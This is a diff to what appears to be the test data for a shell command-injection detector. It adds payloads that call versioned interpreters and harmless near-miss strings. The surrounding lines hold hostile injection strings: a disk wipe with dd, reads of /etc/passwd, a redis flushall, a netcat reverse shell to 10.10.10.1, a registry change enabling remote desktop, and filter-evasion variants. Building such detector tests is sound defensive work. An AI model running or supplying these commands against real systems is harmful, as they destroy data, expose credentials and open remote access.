@@ -105,6 +105,9 @@ COMMANDS = {
                 "| redis-cli flushall", ";su root", ";dd if=/dev/zero of=/dev/sda", ";i\\f\\c\\o\\n\\f\\i\\g"],
     # filter probes: a command in mixed case (a filter that compares case-sensitively), behind `$` or `!`
     "probes": ["'TiMe Sh -c whoami", ";cAt /etc/passwd", ";$ifconfig", ";!whoami"],
+    # interpreters and compilers under the versioned names distributions install them as
+    "versioned": ["x; python3.11 -c \"import os\"", "| gcc-12 -o /tmp/x /tmp/x.c", "x; perl5.36 -e \"print 1\"",
+                  "&& php8.2 -r \"system('id');\""],
     "split words": ["'i'p a", "/bin/ca't' /et*/passwd", '";\\n. shell nc 10.10.10.1 6666 -e sh\\n',
                     'reg add "HKLM\\System\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'],
 }
@@ -141,6 +144,7 @@ COMMAND_NEAR_MISSES = [
     "Wow; ! great", "We; $HOME is set", "Hello!! World", "wow!-1", "$SHELL_NAME",
     "I use tmux and psql daily", "; Get well soon", "xcopy",
     "the robocopy docs", "Get-ChildItem",
+    "python3.11", "php7.4-fpm", "a; gcc-12", "python3.11 is out; node18 next", "Versions: python3.11, perl5.36",
     "C++", "a+b=c", "user+tag@example.com", "Lunch; at noon", "we meet; at 5 pm \"sharp\"", "US$5 or 6$",
 ]
 CODE_PAYLOADS = {
